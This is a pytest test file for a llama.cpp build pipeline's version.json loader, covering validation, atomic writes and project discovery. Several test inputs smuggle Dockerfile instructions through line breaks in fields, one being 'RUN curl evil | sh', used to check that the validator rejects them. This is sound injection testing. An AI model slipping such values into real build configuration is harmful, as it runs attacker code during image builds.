"""version.json: loading, validation (every error names the key), rewriting; Project layout."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from fixtures.lab import PINNED_COMMIT, REPO_ROOT

from pipeline.core.datafile import write_json_atomic
from pipeline.core.errors import ConfigError
from pipeline.core.project import Project
from pipeline.core.version import (
    DEFAULT_REPOSITORY,
    LlamaCppPin,
    VersionInfo,
    load_version,
    parse_version,
    save_version,
)

COMMIT = "0c1e57098bba43ac29e6e3b677cdceebdd22334f"


def valid() -> dict[str, Any]:
    return {
        "version": "0.1.0",
        "llama_cpp": {
            "repository": "https://github.com/ggml-org/llama.cpp",
            "commit": COMMIT,
            "ref": "b6000",
        },
        "image": "docker.io/acme/llama-server",
    }


def test_the_repository_pin_is_valid_and_written_in_version_json_only() -> None:
    info = load_version(REPO_ROOT / "version.json")
    assert info.llama_cpp.commit == PINNED_COMMIT
    assert info.llama_cpp.repository == DEFAULT_REPOSITORY
    # Provision, the fixtures and the workflows read it from there: no second copy to forget.
    readers = [".ci/provision", ".ci/lab", "tests/fixtures/lab.py", "noxfile.py"]
    readers += [str(p.relative_to(REPO_ROOT)) for p in (REPO_ROOT / ".github").rglob("*.yml")]
    for reader in readers:
        assert info.llama_cpp.commit not in (REPO_ROOT / reader).read_text(), reader


def test_a_valid_file_loads() -> None:
    info = parse_version(valid())
    assert info.version == "0.1.0"
    assert info.llama_cpp == LlamaCppPin("https://github.com/ggml-org/llama.cpp", COMMIT, "b6000")
    assert info.llama_cpp.short == COMMIT[:7]
    assert info.image == "docker.io/acme/llama-server"
    assert info.extra == {}


def test_defaults_and_nulls() -> None:
    data = valid()
    del data["llama_cpp"]["repository"]
    data["llama_cpp"]["ref"] = None
    info = parse_version(data)
    assert info.llama_cpp.repository == DEFAULT_REPOSITORY
    assert info.llama_cpp.ref is None
    del data["llama_cpp"]["ref"]
    assert parse_version(data).llama_cpp.ref is None


@pytest.mark.parametrize("version", ["1.2.3", "0.1.0-rc.1", "1.0.0+build.5", "10.20.30"])
def test_semver_accepted(version: str) -> None:
    data = valid()
    data["version"] = version
    assert parse_version(data).version == version


def _set(path: str, value: Any) -> dict[str, Any]:
    data = valid()
    target = data
    *parents, last = path.split(".")
    for key in parents:
        target = target[key]
    if value is KeyError:
        del target[last]
    else:
        target[last] = value
    return data


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ([], "top level is list, expected an object"),
        (_set("version", KeyError), "missing key 'version'"),
        (_set("version", 1), "key 'version' is int"),
        (_set("version", "1.0"), "key 'version' is '1.0', expected a semantic version"),
        (_set("version", "01.0.0"), "key 'version'"),
        (_set("llama_cpp", KeyError), "missing key 'llama_cpp'"),
        (_set("llama_cpp", "x"), "key 'llama_cpp' is str"),
        (_set("llama_cpp.commit", KeyError), "llama_cpp: missing key 'commit'"),
        (_set("llama_cpp.commit", COMMIT[:12]), "key 'commit' is '0c1e57098bba'"),
        (_set("llama_cpp.commit", COMMIT.upper()), "40-hex lowercase"),
        (_set("llama_cpp.commit", COMMIT + "0"), "key 'commit'"),
        (_set("llama_cpp.commit", 12), "key 'commit' is int"),
        (_set("llama_cpp.repository", ""), "key 'repository'"),
        (_set("llama_cpp.repository", 3), "key 'repository'"),
        # Rendered into the Dockerfiles: a line break would start an instruction of its own.
        (_set("llama_cpp.repository", "https://x.example/l.git\nRUN curl evil | sh"), "repository"),
        (_set("llama_cpp.repository", "https://x.example/l.git\rRUN x"), "key 'repository'"),
        (_set("llama_cpp.ref", "b1\nRUN x"), "key 'ref'"),
        (_set("image", "docker.io/acme/x\nRUN x"), "key 'image'"),
        (_set("llama_cpp.ref", ""), "key 'ref'"),
        (_set("llama_cpp.ref", 5), "key 'ref'"),
        (_set("llama_cpp.branch", "master"), "unknown key(s) 'branch'"),
        (_set("image", KeyError), "missing key 'image'"),
        (_set("image", "Acme/Server"), "key 'image'"),
        (_set("image", "llama-server"), "key 'image'"),
    ],
)
def test_schema_errors_name_the_key(data: Any, words: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_version(data)
    assert words in caught.value.message
    assert "\n" not in caught.value.line()


def test_load_errors(tmp_path: Path) -> None:
    path = tmp_path / "version.json"
    with pytest.raises(ConfigError, match="not found"):
        load_version(path)
    path.write_text('{"version": "0.1.0",}')
    with pytest.raises(ConfigError, match=r"not valid JSON: .* at line 1 column"):
        load_version(path)
    path.write_bytes(b"\xff\xfe\x00binary")
    with pytest.raises(ConfigError, match="not UTF-8"):
        load_version(path)
    path.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(ConfigError, match="nests deeper than any file"):
        load_version(path)
    path.unlink()
    path.mkdir()
    with pytest.raises(ConfigError, match="cannot read"):
        load_version(path)


def test_save_keeps_extra_keys_and_round_trips(tmp_path: Path) -> None:
    data = {**valid(), "later_stage": {"tags": ["latest"]}}
    info = parse_version(data)
    assert info.extra == {"later_stage": {"tags": ["latest"]}}
    path = tmp_path / "version.json"
    save_version(path, info)
    assert json.loads(path.read_text()) == data
    assert load_version(path) == info
    assert path.read_text().endswith("}\n")


def test_write_json_atomic_replaces_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "data.json"
    write_json_atomic(path, {"a": 1})
    write_json_atomic(path, {"b": 2})
    assert json.loads(path.read_text()) == {"b": 2}
    with pytest.raises(TypeError):
        write_json_atomic(path, {"c": object()})
    assert json.loads(path.read_text()) == {"b": 2}
    assert [p.name for p in tmp_path.iterdir()] == ["data.json"]  # no temp file left


def test_project_discovery(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, clean_env: None
) -> None:
    root = tmp_path / "checkout"
    nested = root / "a" / "b"
    nested.mkdir(parents=True)
    (root / "version.json").write_text(json.dumps(valid()))
    assert Project.discover(nested).root == root.resolve()
    monkeypatch.chdir(nested)
    assert Project.discover().root == root.resolve()
    monkeypatch.setenv("PIPELINE_ROOT", str(root))
    monkeypatch.chdir(tmp_path)
    assert Project.discover().root == root.resolve()
    monkeypatch.delenv("PIPELINE_ROOT")
    with pytest.raises(ConfigError, match=r"no version\.json found"):
        Project.discover(tmp_path)


def test_project_layout(tmp_path: Path) -> None:
    project = Project(tmp_path)
    assert project.version_file == tmp_path / "version.json"
    assert project.vendor_dir == tmp_path / "third_party" / "llama.cpp" / "vendor"
    assert project.snapshot_file == tmp_path / "third_party" / "llama.cpp" / "snapshot.json"
    assert project.build_dir == tmp_path / "build"
    assert project.dockerfiles_dir == tmp_path / "dockerfiles"


def test_version_info_is_frozen() -> None:
    info: VersionInfo = parse_version(valid())
    with pytest.raises(AttributeError):
        info.version = "9.9.9"  # type: ignore[misc]


def test_the_cli_reports_a_schema_error_in_one_line(tmp_path: Path) -> None:
    data = _set("llama_cpp.commit", "abc")
    (tmp_path / "version.json").write_text(json.dumps(data))
    env = {k: v for k, v in os.environ.items() if k != "LLAMA_CPP_REMOTE"}
    result = subprocess.run(
        [sys.executable, "-m", "pipeline", "sync"],
        cwd=tmp_path,
        env={**env, "PIPELINE_ROOT": str(tmp_path), "PYTHONPATH": str(REPO_ROOT)},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == ConfigError.exit_code
    assert result.stderr.splitlines() == [
        "error: version.json: llama_cpp: key 'commit' is 'abc', "
        "expected a full 40-hex lowercase commit sha"
    ]
    assert not (tmp_path / "third_party").exists()
